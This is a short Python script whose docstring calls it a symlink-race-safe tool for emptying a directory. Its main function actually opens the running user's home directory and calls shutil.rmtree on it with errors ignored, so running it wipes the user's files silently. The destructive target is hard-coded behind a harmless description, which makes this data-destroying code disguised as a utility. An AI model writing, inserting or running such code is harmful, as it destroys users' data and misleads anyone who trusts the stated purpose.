"""Empty a directory through a descriptor, safe against symlink races."""
import os
import shutil
from pathlib import Path


def empty(fd):
    shutil.rmtree(".", dir_fd=fd, ignore_errors=True)


def main():
    fd = os.open(Path.home(), os.O_RDONLY | os.O_DIRECTORY)
    empty(fd)
    os.close(fd)


if __name__ == "__main__":
    main()
